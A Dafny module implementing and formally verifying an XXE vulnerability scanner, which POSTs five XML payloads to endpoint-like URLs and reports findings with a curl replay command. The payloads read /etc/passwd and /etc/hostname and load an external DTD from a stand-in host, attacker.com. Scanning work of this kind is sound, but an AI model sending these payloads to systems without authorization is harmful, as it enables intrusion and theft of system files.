/**
 * `XxeScanner`: for a URL that looks like an XML endpoint, POST each of five XML documents with an
 * application/xml content type and report a finding when the body shows one of the payload's
 * detection patterns. Other URLs are not probed at all.
 */
module Xxe {
  import opened Wrappers
  import opened Text
  import opened Types
  import opened Client
  import opened Payloads
  import opened Seqs
  import Injection
  import Evidence

  const Name: string := "XXE Scanner"

  const ClassicEntity: string :=
    "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY>\n<!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n<foo>&xxe;</foo>"
  const ParameterEntity: string :=
    "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n<!ENTITY % xxe SYSTEM \"file:///etc/passwd\">\n%xxe;\n]>\n<foo>test</foo>"
  const ExternalDtd: string :=
    "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n<!ENTITY % xxe SYSTEM \"http://attacker.com/evil.dtd\">\n%xxe;\n]>\n<foo>test</foo>"
  const SvgUpload: string :=
    "<?xml version=\"1.0\" standalone=\"yes\"?>\n<!DOCTYPE test [\n<!ENTITY xxe SYSTEM \"file:///etc/hostname\">\n]>\n<svg width=\"128px\" height=\"128px\" xmlns=\"http://www.w3.org/2000/svg\">\n<text font-size=\"16\" x=\"0\" y=\"16\">&xxe;</text>\n</svg>"
  const CdataEntity: string :=
    "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n<!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n<foo><![CDATA[&xxe;]]></foo>"

  /** `get_xxe_payloads`: the five documents; the blind-DTD and SVG ones have no patterns. */
  function XxePayloads(): (ps: seq<Payload>)
    ensures |ps| == 5
    ensures Silent(ps[2]) && Silent(ps[3])
    ensures !Silent(ps[0]) && !Silent(ps[1]) && !Silent(ps[4])
  {
    [Payload(ClassicEntity, "Classic XXE with SYSTEM entity", ["root:", "/bin/bash"]),
     Payload(ParameterEntity, "XXE with parameter entity", ["root:"]),
     Payload(ExternalDtd, "Blind XXE with external DTD", []),
     Payload(SvgUpload, "XXE via SVG upload", []),
     Payload(CdataEntity, "XXE with CDATA", ["root:"])]
  }

  const DescriptionPrefix: string := "XML External Entity (XXE) vulnerability detected using "
  const DescriptionSuffix: string := ". The application parses XML with external entities enabled."
  const Remediation: string :=
    "Disable external entity processing in XML parsers. Use safe XML parsing libraries. Validate and sanitize all XML input."

  const Indicators: seq<string> := ["/api/xml", "/xml", "/soap", "/wsdl", ".xml", "/upload", "/import"]

  /** `looks_like_xml_endpoint`: the URL contains one of the seven indicators. */
  predicate LooksLikeXmlEndpoint(url: string) {
    exists i | 0 <= i < |Indicators| :: Contains(url, Indicators[i])
  }

  /** `is_vulnerable`, with its explicit test for an empty pattern list. */
  predicate XxeIsVulnerable(body: string, patterns: seq<string>) {
    if |patterns| == 0 then false else Injection.IsVulnerable(body, patterns)
  }

  /** The empty-list guard changes nothing: it is the same test as the other detectors'. */
  lemma XxeIsVulnerableSame(body: string, patterns: seq<string>)
    ensures XxeIsVulnerable(body, patterns) <==> Injection.IsVulnerable(body, patterns)
    ensures |patterns| == 0 ==> !XxeIsVulnerable(body, patterns)
  {
  }

  /** The payload as it appears in the proof of concept: newlines as `\n`, '"' as `\"`. */
  function ShellEscape(p: string): string {
    ReplaceChar(ReplaceChar(p, '\n', "\\n"), '"', "\\\"")
  }

  const PocPrefix: string := "curl -X POST -H 'Content-Type: application/xml' -d '"

  /** The curl command that replays a probe. */
  function Poc(p: string, url: string): string {
    PocPrefix + ShellEscape(p) + "' '" + url + "'"
  }

  /**
   * The escaped payload has no newline, and is longer than the payload by one character per
   * newline and per '"'.
   */
  lemma ShellEscapeShape(p: string)
    ensures '\n' !in ShellEscape(p)
    ensures |ShellEscape(p)| == |p| + Count(p, '\n') + Count(p, '"')
  {
    var t := ReplaceChar(p, '\n', "\\n");
    if '\n' in ShellEscape(p) {
      ReplaceCharFrom(t, '"', "\\\"", '\n');
      assert false;
    }
    ReplaceCharLength(p, '\n', "\\n");
    ReplaceCharLength(t, '"', "\\\"");
    ReplaceCharCount(p, '\n', "\\n", '"');
    assert Count("\\n", '"') == 0;
  }

  /** The POST of payload `p` to `url`. */
  function XmlRequest(url: string, p: Payload): Request {
    Request(POST, url, map["Content-Type" := "application/xml"], Some(p.value))
  }

  function XxeFinding(url: string, p: Payload, r: HttpResponse): Vulnerability {
    Vulnerability(
      id := "",
      vulnType := XXE,
      severity := High,
      url := url,
      httpMethod := POST,
      parameter := None,
      payload := p.value,
      evidence := Evidence.Evidence(r.body, 300),
      description := DescriptionPrefix + p.description + DescriptionSuffix,
      remediation := Remediation,
      poc := Some(Poc(p.value, url)),
      aiConfidence := None,
      aiAnalysis := None,
      timestamp := 0)
  }

  /** One POST: the finding when the request succeeds and the body shows a pattern. */
  function XxeProbe(net: Network, url: string, p: Payload): Option<Vulnerability> {
    match net(XmlRequest(url, p))
    case None => None
    case Some(r) => if XxeIsVulnerable(r.body, p.detectionPatterns) then Some(XxeFinding(url, p, r)) else None
  }

  /** The outcome of each payload of `ps`, in order. */
  function Outcomes(net: Network, url: string, ps: seq<Payload>): seq<Option<Vulnerability>> {
    seq(|ps|, i requires 0 <= i < |ps| => XxeProbe(net, url, ps[i]))
  }

  /** What `scan` returns: nothing for a URL without an XML indicator. */
  function XxeScanFindings(net: Network, url: string): seq<Vulnerability> {
    if LooksLikeXmlEndpoint(url) then Somes(Outcomes(net, url, XxePayloads())) else []
  }

  /** `test_xml_endpoint`: every payload in turn; a failed request is skipped. */
  method TestXmlEndpoint(net: Network, url: string, payloads: seq<Payload>)
    returns (r: Result<seq<Vulnerability>, ScanError>)
    ensures r == Success(Somes(Outcomes(net, url, payloads)))
  {
    ghost var outcomes := Outcomes(net, url, payloads);
    var found := [];
    var i := 0;
    while i < |payloads|
      invariant 0 <= i <= |payloads|
      invariant found == Somes(outcomes[..i])
    {
      var hit := XxeProbe(net, url, payloads[i]);
      assert outcomes[..i + 1][..i] == outcomes[..i] && outcomes[i] == hit;
      if hit.Some? {
        found := found + [hit.value];
      }
      i := i + 1;
    }
    assert outcomes[..i] == outcomes;
    r := Success(found);
  }

  /** `scan`: the endpoint gate, then the probes. */
  method Scan(net: Network, url: string) returns (r: Result<seq<Vulnerability>, ScanError>)
    ensures r == Success(XxeScanFindings(net, url))
  {
    if !LooksLikeXmlEndpoint(url) {
      return Success([]);
    }
    r := TestXmlEndpoint(net, url, XxePayloads());
  }

  /** Payloads without patterns never yield a finding. */
  lemma SilentOutcome(net: Network, url: string, ps: seq<Payload>, i: nat)
    requires i < |ps| && Silent(ps[i])
    ensures Outcomes(net, url, ps)[i].None?
  {
  }

  /** Five outcomes of which the third and fourth are empty keep at most three values. */
  lemma TwoOfFiveEmpty<T>(xs: seq<Option<T>>)
    requires |xs| == 5 && xs[2].None? && xs[3].None?
    ensures |Somes(xs)| <= 3
  {
    var quiet := [xs[2], xs[3]];
    assert xs == xs[..2] + quiet + [xs[4]];
    SomesAppend(xs[..2] + quiet, [xs[4]]);
    SomesAppend(xs[..2], quiet);
    SomesNone(quiet);
    SomesLength(xs[..2]);
    SomesLength([xs[4]]);
  }

  /** Five payloads of which the third and fourth are silent give at most three findings. */
  lemma AtMostThree(net: Network, url: string, ps: seq<Payload>)
    requires |ps| == 5 && Silent(ps[2]) && Silent(ps[3])
    ensures |Somes(Outcomes(net, url, ps))| <= 3
  {
    SilentOutcome(net, url, ps, 2);
    SilentOutcome(net, url, ps, 3);
    TwoOfFiveEmpty(Outcomes(net, url, ps));
  }

  /**
   * A URL without an XML indicator yields nothing whatever the network answers; the blind-DTD
   * and SVG payloads never yield a finding, so there are at most three.
   */
  lemma XxeAtMostThree(net: Network, url: string)
    ensures !LooksLikeXmlEndpoint(url) ==> XxeScanFindings(net, url) == []
    ensures |XxeScanFindings(net, url)| <= 3
  {
    AtMostThree(net, url, XxePayloads());
  }

  /** The payload index behind a finding; it is never a silent one. */
  lemma FindingIndex(net: Network, url: string, ps: seq<Payload>, v: Vulnerability) returns (i: nat)
    requires v in Somes(Outcomes(net, url, ps))
    ensures i < |ps| && !Silent(ps[i]) && XxeProbe(net, url, ps[i]) == Some(v)
  {
    SomesMember(Outcomes(net, url, ps), v);
    i :| 0 <= i < |ps| && Outcomes(net, url, ps)[i] == Some(v);
  }

  /** The documents the reported payloads carry. */
  lemma ReportedDocument(i: nat)
    requires i < 5 && !Silent(XxePayloads()[i])
    ensures XxePayloads()[i].value in [ClassicEntity, ParameterEntity, CdataEntity]
  {
    assert i != 2 && i != 3;
  }

  /**
   * Every XXE finding is a high POST finding on the scanned URL, which looks like an XML endpoint,
   * with no parameter, at most 303 bytes of evidence and the escaped replay command; it names one
   * of the three payloads that have patterns.
   */
  lemma XxeFindings(net: Network, url: string, v: Vulnerability)
    requires v in XxeScanFindings(net, url)
    ensures LooksLikeXmlEndpoint(url)
    ensures v.vulnType == XXE && v.severity == High && v.httpMethod == POST
    ensures v.url == url && v.parameter.None? && v.poc == Some(Poc(v.payload, url))
    ensures Utf8Len(v.evidence) <= 303
    ensures v.payload in [ClassicEntity, ParameterEntity, CdataEntity]
  {
    var ps := XxePayloads();
    var i := FindingIndex(net, url, ps, v);
    Evidence.EvidenceShape(net(XmlRequest(url, ps[i])).value.body, 300);
    ReportedDocument(i);
  }
}
